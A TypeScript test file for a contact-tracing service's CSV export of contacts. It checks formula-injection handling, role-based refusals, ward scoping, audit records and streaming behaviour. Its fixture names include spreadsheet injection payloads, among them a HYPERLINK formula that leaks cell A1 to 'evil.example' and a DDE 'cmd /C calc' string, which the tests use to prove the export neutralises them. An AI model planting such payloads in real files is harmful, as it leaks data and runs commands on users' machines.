/**
 * The export of contacts: what a spreadsheet makes of nasty names, who gets it, what it says of itself, what
 * is put on record, and that a large one is not held in memory or in a transaction.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { CoverageState, Direction, TraceState } from '../../shared/gen/truyvet/v1/common_pb.ts';
import { newTraceId } from '../../shared/ids.ts';
import { createNodeHttp, type NodeHttp } from '../support/node-http.ts';

let node: NodeHttp;
/** Of another province; with a contact for each name. */
let trace: string;

const NAMES = [
  'Nguyễn Văn "Tí", phường 3',
  '=HYPERLINK("https://evil.example/?x="&A1,"An")',
  '+84912345678',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-1+1',
  'An;=1+1',
];
const HERE = '07210';
const THERE = '07303';

beforeAll(async () => {
  node = await createNodeHttp();
  // They live where their contacts are, since contacts follow their people as soon as the node hears of them.
  const rows = NAMES.map(
    (name, i) => `phone:091200000${i},"${name.replaceAll('"', '""')}",24,${i % 2 === 0 ? HERE : THERE}`,
  );
  const body = ['identifiers,name,province,ward', ...rows, ''].join('\n');
  const report = await node.call('POST', '/v1/imports/persons', {
    text: body,
    headers: { 'content-type': 'text/csv' },
  });
  expect(report.body).toMatchObject({ accepted: NAMES.length });
  trace = await addTrace(NAMES.length);
});
afterAll(() => node[Symbol.asyncDispose]());

/** A trace with `count` contacts, the imported people first; the odd ones are in another ward. */
async function addTrace(count: number): Promise<string> {
  const id = newTraceId();
  await node.db.sql`INSERT INTO openings VALUES (${id}, '79', 0, 'x', 0)`;
  await node.db.sql`
    INSERT INTO contacts (trace_id, contact_id, degree, first_exposed_at, last_exposed_at, seconds, settings,
      place_kinds, exposed_in, identifier_ids, ward, delivery)
    SELECT ${id}, lpad(to_hex(n), 32, '0'), 1, 1622505600, 1622509200, 900, 3, 1, '{24,79}',
      ARRAY(SELECT id FROM identifiers ORDER BY id LIMIT 1 OFFSET n),
      CASE WHEN n % 2 = 0 THEN ${HERE} ELSE ${THERE} END, 1
    FROM generate_series(0, ${count - 1}) AS n`;
  return id;
}

const everything = { roles: ['epidemiologist@24'], subject: 'epi' };
const path = (id: string) => `/v1/traces/${id}/contacts.csv`;
const rowsOf = (text: string) =>
  parse(text, { columns: true, bom: true }) as {
    id: string;
    name: string;
    identifiers: string;
    ward: string;
  }[];

/** What every line says of the whole. */
const SAID = ['trace', 'state', 'missing_provinces', 'rules', 'exported_at', 'exported_by'];

/** Entries of exports of a trace, oldest first. */
async function entriesOf(id: string) {
  const rows = await node.db.sql<{ body: string }[]>`SELECT body FROM audit_records ORDER BY id`;
  return rows
    .map(({ body }) => JSON.parse(body))
    .filter(({ action, on }) => action === 'contacts.exported' && on?.[0]?.trace === id);
}

const instantsOf = (row: Record<string, string>) =>
  Object.fromEntries(
    ['first_exposed_at', 'last_exposed_at'].map((column) => {
      expect(row[column]).toMatch(/\+07:00$/);
      return [column, new Date(row[column] as string).toISOString().replace('.000', '')];
    }),
  );

test('holds what the JSON holds, with every name as harmless text', async () => {
  const { status, body, headers } = await node.call('GET', path(trace), everything);
  expect(status).toBe(200);
  expect(headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
  expect(headers.get('content-disposition')).toBe(`attachment; filename="truyvet-${trace}.csv"`);
  expect(headers.get('x-content-type-options')).toBe('nosniff');
  const { contacts } = (await node.call('GET', `/v1/traces/${trace}/contacts`, everything)).body;
  const rows = rowsOf(body);
  expect(rows).toHaveLength(NAMES.length);
  for (const [i, row] of rows.entries()) {
    for (const column of SAID) delete (row as Record<string, string>)[column];
    expect(Object.keys(row).sort()).toEqual(Object.keys(contacts[i]).sort());
    // Times are local where people read them; the instants are the same.
    expect({ ...row, ...instantsOf(row), name: '' }).toEqual({
      ...Object.fromEntries(
        Object.entries(contacts[i]).map(([k, v]) => [k, Array.isArray(v) ? v.join(' ') : String(v ?? '')]),
      ),
      name: '',
    });
  }
  expect(contacts.map(({ name }: { name: string }) => name).sort()).toEqual(NAMES.toSorted());
  const cells = rows.flatMap((row) => Object.values(row));
  expect(cells.filter((cell) => /^\s*[=+\-@\t\r]/.test(cell))).toEqual([]);
  expect(rows.map(({ name }) => name)).toContain('Nguyễn Văn "Tí", phường 3');
});

describe('says of itself, on every line', () => {
  const said = async (id: string) => {
    const { body, status } = await node.call('GET', path(id), everything);
    expect(status).toBe(200);
    return rowsOf(body) as unknown as Record<string, string>[];
  };
  const covered = (...states: [province: string, state: CoverageState][]) =>
    states.map(([province, state]) => ({ province, state, behind: 0 }));
  const { CURRENT, BEHIND, UNREACHABLE, REFUSED, EXCLUDED } = CoverageState;

  test.each<
    [string, TraceState, ReturnType<typeof covered>, said: readonly [state: string, missing: string]]
  >([
    ['all', TraceState.COMPLETE, covered(['01', CURRENT], ['24', CURRENT]), ['complete', '']],
    ['one away', TraceState.PARTIAL, covered(['01', UNREACHABLE], ['24', CURRENT]), ['partial', '01']],
    ['behind', TraceState.PARTIAL, covered(['79', BEHIND], ['01', CURRENT]), ['partial', '79']],
    ['refused', TraceState.PARTIAL, covered(['24', CURRENT], ['01', REFUSED]), ['partial', '01']],
    ['left out', TraceState.PARTIAL, covered(['79', EXCLUDED], ['01', REFUSED]), ['partial', '01 79']],
    ['at work', TraceState.RUNNING, covered(['24', BEHIND]), ['running', '24']],
    ['ended', TraceState.CLOSED, covered(['24', CURRENT], ['79', UNREACHABLE]), ['closed', '79']],
  ])('which provinces are missing: %s', async (_, state, coverage, [word, missing]) => {
    const id = await addTrace(2);
    const terms = { rules: 3, direction: Direction.FORWARD, maxDegree: 2, asOf: 1, province: '79' };
    node.hub.statuses.set(id, { state, coverage, ...terms });
    const rows = await said(id);
    expect(rows).toHaveLength(2);
    for (const row of rows) {
      expect(row).toMatchObject({ trace: id, state: word, missing_provinces: missing });
      expect(row).toMatchObject({ rules: '3', exported_by: 'epi' });
      expect(Math.abs(Date.parse(row.exported_at as string) - Date.now())).toBeLessThan(60_000);
    }
    const { body } = await node.call('GET', `/v1/traces/${id}/contacts`, everything);
    expect(body).toMatchObject({ trace: id, state: word, rules: 3, by: 'epi' });
    expect(body.missing_provinces.join(' ')).toBe(missing);
  });

  test('that nobody could say how the trace stands', async () => {
    const id = await addTrace(1);
    expect(await said(id)).toMatchObject([{ state: 'unknown', missing_provinces: '', exported_by: 'epi' }]);
  });

  test('also without a contact: one line that is nobody', async () => {
    const id = await addTrace(1);
    const { body } = await node.call('GET', `${path(id)}?ward=${THERE}`, everything);
    expect(rowsOf(body)).toMatchObject([{ id: '', name: '', degree: '', trace: id, state: 'unknown' }]);
  });
});

test('begins with the mark that spreadsheets look for', async () => {
  const { issuer } = node;
  const token = await issuer.issue({ audience: 'truyvet-node-24', ...everything });
  const response = await node.fetch(path(trace), { headers: { authorization: `Bearer ${token}` } });
  const bytes = new Uint8Array(await response.arrayBuffer());
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
});

test.each([
  ['lab@24', 403],
  ['integrator@24', 403],
  ['operator@24', 403],
  ['epidemiologist@79', 403],
  ['ward_tracer@07000', 403],
])('is refused to %s, on record', async (role, status) => {
  const answer = await node.call('GET', path(trace), { roles: [role], subject: 'somebody' });
  expect([answer.status, answer.body.reason]).toEqual([status, 'ROLE_REQUIRED']);
  const [row] = await node.db.sql<
    { body: string }[]
  >`SELECT body FROM audit_records ORDER BY id DESC LIMIT 1`;
  expect(JSON.parse(row?.body ?? '')).toMatchObject({
    outcome: 'refused',
    actor: { id: 'somebody' },
    detail: { act: 'contacts.export' },
  });
});

test('gives a ward its own contacts, and what it asks of another ward is empty', async () => {
  const tracer = { roles: [`ward_tracer@${HERE}`], subject: 'tracer' };
  const own = rowsOf((await node.call('GET', path(trace), tracer)).body);
  expect(own.map(({ ward }) => ward)).toEqual([HERE, HERE, HERE]);
  const [none, ...more] = rowsOf((await node.call('GET', `${path(trace)}?ward=${THERE}`, tracer)).body);
  expect([none?.id, none?.ward, more]).toEqual(['', '', []]);
  const elsewhere = { roles: ['ward_tracer@07213'], subject: 'elsewhere' };
  const answers = [
    await node.call('GET', path(trace), elsewhere),
    await node.call('GET', path(newTraceId()), elsewhere),
  ];
  expect(answers.map(({ status, body }) => [status, body.reason])).toEqual([
    [404, 'NO_SUCH_TRACE'],
    [404, 'NO_SUCH_TRACE'],
  ]);
});

test('is on record page by page, with who, how many and which, and never a name', async () => {
  const id = await addTrace(2_500);
  const rows = rowsOf((await node.call('GET', path(id), everything)).body);
  expect(rows).toHaveLength(2_500);
  expect(new Set(rows.map((row) => row.id)).size).toBe(2_500);
  const entries = await entriesOf(id);
  expect(entries).toMatchObject(
    [1_000, 1_000, 500].map((count) => ({
      outcome: 'done',
      actor: { kind: 'person', id: 'epi' },
      detail: { count },
    })),
  );
  const recorded = entries.flatMap(({ on }) =>
    on.flatMap(({ contact }: { contact?: string }) => contact ?? []),
  );
  expect(recorded).toEqual(rows.map((row) => row.id));
  for (const name of NAMES) expect(JSON.stringify(entries)).not.toContain(name.slice(0, 8));
});

test('reads no further than its reader, holds no transaction, and records only what went out', async () => {
  const id = await addTrace(20_000);
  const token = await node.issuer.issue({ audience: 'truyvet-node-24', ...everything });
  const response = await node.fetch(path(id), { headers: { authorization: `Bearer ${token}` } });
  const reader = response.body?.getReader() as ReadableStreamDefaultReader<Uint8Array>;
  for (let i = 0; i < 3; i++) await reader.read();
  const [open] = await node.db.sql<{ count: number }[]>`
    SELECT count(*)::int AS count FROM pg_stat_activity
    WHERE datname = current_database() AND state LIKE 'idle in transaction%'`;
  expect(open?.count).toBe(0);
  await reader.cancel();
  expect((await entriesOf(id)).length).toBeLessThan(6);
});
